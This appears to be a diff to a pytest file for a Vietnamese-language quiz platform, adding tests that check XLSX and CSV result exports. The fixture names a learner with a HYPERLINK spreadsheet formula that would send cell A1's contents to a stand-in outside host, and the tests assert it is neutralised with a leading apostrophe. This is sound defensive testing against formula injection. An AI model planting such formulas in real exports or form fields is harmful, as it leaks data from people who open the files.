@@ -1,9 +1,11 @@
 """What trainers see of a quiz: attempts, CSV, item analysis, essays to grade."""
 
 import csv
+import datetime
 import io
 from decimal import Decimal
 
+import openpyxl
 import pytest
 
 from courses.models import CoursePage
@@ -116,3 +118,44 @@ def test_trainers_grade_essays_and_bad_marks_are_refused(trainer_client, learner
     graded = Attempt.objects.get(pk=attempt.pk)
     assert graded.state == Attempt.State.FINISHED and graded.percent == Decimal("50.00")
     assert Response.objects.get(pk=response.pk).grader_comment == "Khá"
+
+
+@pytest.fixture
+def a_third_right(make_user, make_quiz, make_question):
+    """A learner named like a formula, with one question right of three: 33.33%."""
+    questions = [make_question(name=f"Câu {n}", answers=[("Đúng", 1), ("Sai", 0)]) for n in range(3)]
+    quiz = make_quiz(questions, slug="mot-phan-ba")
+    user = make_user(email="cong.thuc@example.vn", full_name='=HYPERLINK("http://x.example/?"&A1,"Bấm")')
+    enrollment_services.enroll(user, CoursePage.of(quiz))
+    attempt = services.start_attempt(user, quiz)
+    raw = {}
+    for response in attempt.responses.select_related("question"):
+        text = "Đúng" if response.position == 1 else "Sai"
+        raw[response.pk] = str(response.question.answers.get(text=text).pk)
+    services.save_answers(attempt.pk, user, raw)
+    services.submit_attempt(attempt.pk, user)
+    return quiz
+
+
+def test_the_xlsx_results_hold_real_numbers_and_dates_and_no_formula(trainer_client, a_third_right):
+    download = trainer_client(a_third_right).get(f"/admin/quizzes/{a_third_right.pk}/attempts.xlsx")
+
+    assert download.status_code == 200
+    assert download["Content-Disposition"].endswith('.xlsx"')
+    sheet = openpyxl.load_workbook(io.BytesIO(download.content)).active
+    header = [cell.value for cell in sheet[1]]
+    row = dict(zip(header, [cell.value for cell in sheet[2]], strict=True))
+    assert header[0] == "Họ và tên"
+    assert row["Điểm số (%)"] == pytest.approx(33.33) and isinstance(row["Điểm số (%)"], float | int)
+    assert row["Câu 1"] == 1 and row["Câu 2"] == 0
+    assert isinstance(row[header[5]], datetime.datetime)  # started, as a date Excel can sort
+    assert row[header[0]] == '\'=HYPERLINK("http://x.example/?"&A1,"Bấm")'
+    assert sheet.cell(row=2, column=1).data_type == "s"
+
+
+def test_the_csv_results_use_a_decimal_point_and_no_formula(a_third_right):
+    rows = list(csv.reader(io.StringIO(results.results_csv(a_third_right).lstrip("\ufeff"))))
+
+    row = dict(zip(rows[0], rows[1], strict=True))
+    assert row["Điểm số (%)"] == "33.33"
+    assert row[rows[0][0]].startswith("'=HYPERLINK")
